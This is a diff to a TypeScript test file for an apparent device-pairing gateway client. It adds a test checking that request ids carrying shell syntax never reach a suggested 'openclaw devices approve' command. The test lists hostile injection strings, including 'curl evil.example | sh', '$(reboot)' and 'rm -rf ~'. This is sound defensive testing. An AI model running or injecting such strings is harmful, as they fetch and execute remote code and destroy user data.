@@ -2,8 +2,8 @@
 import { test, describe } from "node:test";
 import assert from "node:assert/strict";
 import { GatewayClientRequestError } from "@openclaw/gateway-client";
+import { approveCommand } from "../../common/pairing-command.ts";
 import {
-  approveCommand,
   checkHello,
   describeDisconnect,
   errorFacts,
@@ -103,6 +103,19 @@ describe("terminalState", () => {
       assert.match(s.advice, /5 minutes/);
     }
     assert.equal(approveCommand("abc"), "openclaw devices approve abc");
+  });
+
+  test("a request id that carries shell syntax never goes into a command to run (a rogue Gateway)", () => {
+    for (const hostile of ["x; curl evil.example | sh", "$(reboot)", "a`id`", "r-1 && rm -rf ~", "-rf", "a\nb", "", "x".repeat(129)]) {
+      const s = terminalState(facts("NOT_PAIRED", "PAIRING_REQUIRED", { code: "PAIRING_REQUIRED", requestId: hostile }), CTX);
+      assert.ok(s && s.state === "pairing_required", hostile);
+      assert.equal(s.command, null, hostile);
+      assert.equal(approveCommand(hostile), null, hostile);
+      assert.ok(!s.advice.includes("devices approve"), s.advice);
+      assert.match(s.advice, /openclaw devices list/);
+    }
+    const uuid = "3f0c9a4e-5b1d-4c2e-9f7a-0123456789ab";
+    assert.equal(approveCommand(uuid), `openclaw devices approve ${uuid}`);
   });
 
   test("pairing without a requestId still says what to do, without an invented command", () => {
